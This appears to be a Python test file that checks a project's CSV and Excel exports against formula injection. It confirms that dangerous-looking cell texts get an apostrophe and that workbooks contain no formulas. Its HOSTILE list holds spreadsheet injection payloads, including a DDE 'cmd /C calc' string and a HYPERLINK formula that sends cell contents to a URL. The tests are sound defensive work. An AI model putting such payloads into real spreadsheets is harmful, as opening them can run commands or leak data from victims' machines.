"""What is handed out runs nothing: no text of a submission becomes a formula in a CSV or a workbook of ours."""

import csv
import io
import re
import zipfile
from collections.abc import Sequence
from pathlib import Path

import openpyxl
import pytest

from rkci import cycles, paths
from rkci import framework as frameworks
from rkci.city_register import City
from rkci.framework import difference
from rkci.framework.difference import Difference
from rkci.intake import workbook
from rkci.intake.workbook import Answer
from rkci.scoring import what_if
from rkci.tables import inert, write_rows

HOSTILE = (
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
    "\r=1+1", "\n=1+1", "=HYPERLINK(\"https://x/?\"&A1)", "＝1+1", "-1-1", "+", "=",
)  # fmt: skip
RECORD = "catatan\r=1+1\r\n@x"
HARMLESS = (
    RECORD,
    "-1.5",
    "+62",
    "-",
    "-1e-5",
    "-inf",
    "12,5",
    "0",
    "",
    "Kota Binjai",
    "a=b",
    'tanda "kutip", koma',
    "-0",
)
AS_THEY_ARE = {"plugins/rkci/scoring/given.py", "plugins/rkci/simulate/exports.py"}
"""Where records are made for PostgreSQL's COPY, and exports are simulated as Kobo and others write them: both go into
the warehouse and to nobody's spreadsheet."""


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe_and_loses_nothing(text: str) -> None:
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize("cell", [*HARMLESS, -1.5, -3, None, True])
def test_numbers_and_plain_texts_are_written_as_they_are(cell: object) -> None:
    assert inert(cell) is cell


def test_every_csv_that_is_written_goes_through_the_one_writer() -> None:
    written = re.compile(r"csv\.writer\(|DictWriter\(|\.to_csv\(")
    found = {
        file.relative_to(paths.ROOT).as_posix()
        for folder in (paths.PLUGINS, paths.DAGS)
        for file in folder.rglob("*.py")
        if written.search(file.read_text(encoding="utf-8"))
    }
    assert found == AS_THEY_ARE


def test_no_xlsx_is_written_with_a_method_that_guesses_formulas() -> None:
    guessing = re.compile(r"\.write\((row|\d)|\.write_(row|column|formula|array_formula|dynamic_array_formula|url)\(")
    for file in paths.PLUGINS.rglob("*.py"):
        text = file.read_text(encoding="utf-8")
        assert "xlsxwriter" not in text or not guessing.search(text), file


def written(rows: Sequence[Sequence[object]]) -> str:
    lines = io.StringIO()
    write_rows(lines, rows)
    return lines.getvalue()


def test_what_a_writer_writes_reads_back_with_every_hostile_text_behind_an_apostrophe(tmp_path: Path) -> None:
    lines = written([("code", "text", "value"), *((str(n), text, -n) for n, text in enumerate(HOSTILE))])
    difference.write([Difference("node", "a", "name", text, text) for text in HOSTILE], tmp_path / "difference.csv")
    what_if.write_csv(tmp_path / "cities.csv", [{"city_name": text, "move": -1.5} for text in HOSTILE])
    for content in (lines, *(file.read_bytes().decode() for file in tmp_path.iterdir())):
        cells = [cell for row in csv.reader(io.StringIO(content, newline="")) for cell in row]
        assert sum(cell in {f"'{text}" for text in HOSTILE} for cell in cells) >= len(HOSTILE)
        assert not set(cells) & set(HOSTILE)
    assert list(csv.reader(io.StringIO(written([[RECORD, 'tanda "kutip", koma', None, True, 1e22]]), newline=""))) == [
        [RECORD, 'tanda "kutip", koma', "", "True", "1e+22"]
    ]
    assert ",-3\n" in lines
    assert ",-1.5\n" in (tmp_path / "cities.csv").read_text()


def test_hostile_answers_are_texts_in_the_workbook_and_no_formula_is(tmp_path: Path) -> None:
    cycle = cycles.load(2017)
    framework = frameworks.load(cycle.primary_framework)
    asked = [item.code for item in framework.indicators if item.source == "submitted"]
    given = dict(zip(asked, HOSTILE, strict=False))
    workbook.write(
        tmp_path / "a.xlsx",
        cycle=cycle,
        framework=framework,
        city=City("1276", HOSTILE[0], HOSTILE[3]),
        answers={code: Answer(text, agency=text, evidence=text, note=text) for code, text in given.items()},
        officer={"officer": HOSTILE[1]},
    )
    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
        assert not any(re.search(b"<f[ >/]", archive.read(name)) for name in archive.namelist() if "sheets/" in name)
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert HOSTILE[0] in {cell.value for cell in cells}
